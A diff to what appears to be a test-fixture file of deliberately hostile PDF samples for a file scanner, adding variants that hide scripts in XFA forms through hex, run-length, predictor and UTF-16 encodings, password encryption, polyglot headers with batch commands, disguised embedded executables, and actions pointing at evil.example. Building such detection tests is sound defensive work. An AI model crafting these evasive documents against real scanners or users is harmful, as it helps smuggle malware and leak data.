@@ -13,16 +13,37 @@ const PACKED_FILE = '/Type/EmbeddedFile/Filter/FlateDecode';
 const widget = `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</F ${SCRIPT}>>>>`;
 
 /** A script on opening, in a file with only an owner password. */
-async function encrypted(): Promise<Buffer> {
-  const document = await PDFDocument.load(opening(SCRIPT));
-  document.encrypt({ ownerPassword: 'owner', userPassword: '' });
-  return Buffer.from(await document.save({ useObjectStreams: true }));
-}
+const encrypted = () => ownedBy(opening(SCRIPT));
 
 /** An object inside another's stream, reachable only through the xref table. */
 function hidden(): Buffer {
   const parts = { catalog: opens, objects: { 9: stream(`10 0 obj ${SCRIPT} endobj`) } };
   return makePdf({ ...parts, lies: { 10: makePdf(parts).indexOf('10 0 obj') } });
+}
+
+const FORM = '<template><event activity="initialize"><script>app.alert(1)</script></event></template>';
+const hex = (bytes: string | Buffer) => `${Buffer.from(bytes as string, 'latin1').toString('hex')}>`;
+/** A form of XFA, packed as no program does. */
+const packedForm = (content: string | Buffer, about: string, more = {}) =>
+  makePdf({
+    catalog: '/AcroForm<</Fields[]/XFA 12 0 R>>',
+    objects: {
+      10: stream(content, about),
+      12: '[(preamble) 11 0 R(template) 10 0 R]',
+      11: stream('<a/>'),
+      ...more,
+    },
+  });
+/** A text as an attachment, with another file in its entry. */
+const alsoAttaching = (entries: string, content: string | Buffer, about: string) =>
+  makePdf({
+    catalog: '/AF[10 0 R]',
+    objects: { 10: `<</Type/Filespec/F(a.txt)${entries}>>`, 11: stream('text'), 12: stream(content, about) },
+  });
+async function ownedBy(file: Buffer): Promise<Buffer> {
+  const document = await PDFDocument.load(file);
+  document.encrypt({ ownerPassword: 'owner', userPassword: '' });
+  return Buffer.from(await document.save({ useObjectStreams: true }));
 }
 
 /** Scripts in every place and notation. */
@@ -92,12 +113,48 @@ export const harmfulPdfs = [
     // Polyglots.
     'a PDF that ends as zip': Buffer.concat([makePdf(), plainZip]),
     'a PDF that ends as zip with a comment': Buffer.concat([makePdf(), plainZip, Buffer.alloc(60_000)]),
-    'a PDF that is a web page as well': makePdf({ before: '<html><script>alert(1)</script>' }),
     'a PDF that is a script as well': makePdf({ before: '#!/bin/sh\n' }),
     'a program before a PDF': makePdf({ before: exe }),
     'a PDF around a program': pdfWith(stream('MZ This program cannot be run in DOS mode')),
   }),
+  ...rows('pdf', 'wrong-type', { 'a web page before a PDF': makePdf({ before: '<html><script>' }) }, 'html'),
+  ...rows('pdf', 'unread', {
+    'an attachment in packed objects of a file with an owner password': () =>
+      ownedBy(alsoAttaching('/EF<</F 12 0 R>>', program, '')),
+    'commands before a PDF': makePdf({ before: '@echo off\r\ncalc.exe\r\nexit /b\r\n' }),
+    'a comment of a script before a PDF': makePdf({ before: 'var a=1;/*\n' }),
+  }),
+  ...rows('pdf', 'executable', {
+    'a form with a script in UTF-16': packedForm(Buffer.from(`\ufeff${FORM}`, 'utf16le'), ''),
+    'a step into a thread of an indirect kind': makePdf({
+      objects: { 10: '<</S 11 0 R/F(\\\\\\\\evil.example\\\\a)>>', 11: '/Thread' },
+    }),
+  }),
+  ...rows('pdf', 'attachments', {
+    'a form in hexadecimal': packedForm(hex(FORM), '/Filter/ASCIIHexDecode'),
+    'a form in hexadecimal by an indirect filter': packedForm(hex(FORM), '/Filter 13 0 R', {
+      13: '/ASCIIHexDecode',
+    }),
+    'a form of run lengths': packedForm(`\x7f${FORM}`, '/Filter[/RL]'),
+    'a form with a predictor': packedForm(
+      deflateSync(`\0${FORM}`),
+      `/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns ${FORM.length}>>`,
+    ),
+    'a form in a file with an owner password': () => ownedBy(packedForm(FORM, '')),
+    'a program for DOS in hexadecimal': alsoAttaching(
+      '/EF<</F 11 0 R/DOS 12 0 R>>',
+      hex(program),
+      '/Filter/AHx',
+    ),
+    'a program as a related file': alsoAttaching('/EF<</F 11 0 R>>/RF<</F[(a) 12 0 R]>>', program, ''),
+    'a program that is said to be a picture': alsoAttaching(
+      '/EF<</F 12 0 R>>',
+      program,
+      '/Subtype/Image/Width 1',
+    ),
+  }),
   ...rows('pdf', 'outside', {
+    'a step into a thread of another file': opening('<</S/Thread/F(\\\\\\\\evil.example\\\\a.pdf)/D 0>>'),
     'a step into another file': opening('<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)/D[0/Fit]>>'),
     'a step into an embedded file': opening('<</S/GoToE/T<</R/C/N(a.pdf)>>/D[0/Fit]>>'),
     'a form that is sent': opening('<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>'),
